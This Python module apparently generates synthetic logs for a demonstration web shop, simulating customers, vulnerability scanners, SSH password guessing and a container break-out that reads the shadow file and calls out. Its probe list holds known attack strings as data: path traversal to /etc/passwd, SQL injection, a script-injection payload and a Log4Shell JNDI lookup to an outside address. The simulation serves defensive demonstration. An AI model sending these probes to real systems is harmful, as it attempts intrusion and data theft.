"""Who asks the demonstration's web site for what: customers, scanners, a release that breaks it, guesses at SSH."""

from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random

from cli.demo.cast import Person
from cli.demo.lines import connected_out, request_line, shadow_read, shell_spawned, ssh_accepted, ssh_failed
from cli.demo.logs import KERNEL, SITE, SSH, DemoLog

Line = tuple[datetime, DemoLog, str]
CONTAINER = "shop-api"
_SCANNERS = tuple(f"203.0.113.{host}" for host in (40, 41, 42))
_GUESSERS = tuple(f"203.0.113.{host}" for host in (50, 51))
_AGENTS = ("zgrab/0.x", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project", "python-requests/2.32.5")
_BROKEN = 0.5
"""Share of requests that a broken release answers with 502."""

_PAGES = (
    ("GET", "/", 14), ("GET", "/products", 12), ("GET", "/products/{id}", 22), ("GET", "/static/app.css", 9),
    ("GET", "/static/app.js", 9), ("GET", "/cart", 6), ("POST", "/cart", 4), ("POST", "/checkout", 2),
    ("GET", "/search?q=lamp", 6), ("POST", "/login", 3), ("GET", "/account", 4),
)  # fmt: skip
_PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/actuator/env",
    "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin.php", "/config.php",
    "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/products?id=1%27%20union%20select%201,2,3--",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?x=${jndi:ldap://203.0.113.66/a}", "/boaform/admin/formLogin",
)  # fmt: skip
_SSH_NAMES = ("root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "deploy", "user", "ftp")


def customer(random: Random, people: tuple[Person, ...], at: datetime, *, broken: bool = False) -> Line:
    """One request of somebody who buys."""
    place = random.choice(random.choice(people).places)
    method, target, _ = random.choices(_PAGES, [weight for *_, weight in _PAGES])[0]
    target = target.replace("{id}", str(random.randrange(1, 400)))
    took = min(random.lognormvariate(-3.0, 0.7), 9.0) * (1.8 if method == "POST" else 1)
    status = 200
    if broken and random.random() < _BROKEN and not target.startswith("/static"):
        status, took = 502, took + 1.5
    elif random.random() < 0.012:
        status = random.choice((404, 404, 404, 401, 304))
    elif random.random() < 0.0008:
        status = 500
    return at, SITE, request_line(at, place.address, (method, target), status, took, place.user_agent, random)


def scan(random: Random, began: datetime, pace_s: float) -> Iterator[Line]:
    """One address asks for what no page links to."""
    address, agent = random.choice(_SCANNERS), random.choice(_AGENTS)
    at = began
    for target in random.sample(_PROBES * 4, random.randrange(24, 60)):
        status = 403 if random.random() < 0.2 else 404
        yield at, SITE, request_line(at, address, ("GET", target), status, 0.002, agent, random)
        at += timedelta(seconds=random.uniform(0.3, 1.7) * pace_s)


def ssh_guessing(random: Random, began: datetime) -> Iterator[Line]:
    """One address guesses passwords of the host."""
    address, at = random.choice(_GUESSERS), began
    for _ in range(random.randrange(8, 28)):
        user = random.choice(_SSH_NAMES)
        yield at, SSH, ssh_failed(at, user, address, random, exists=user == "root")
        at += timedelta(seconds=random.uniform(1.5, 6))


def ssh_login(random: Random, at: datetime) -> Line:
    """Somebody of the house, from the office."""
    return at, SSH, ssh_accepted(at, random.choice(("deploy", "anna")), "198.51.100.10", random)


def break_out(random: Random, began: datetime) -> Iterator[Line]:
    """A shell in the container, what it reads, and where it calls."""
    yield began, KERNEL, shell_spawned(began, CONTAINER)
    read = began + timedelta(seconds=random.uniform(20, 60))
    yield read, KERNEL, shadow_read(read, CONTAINER)
    called = read + timedelta(seconds=random.uniform(10, 40))
    yield called, KERNEL, connected_out(called, CONTAINER)
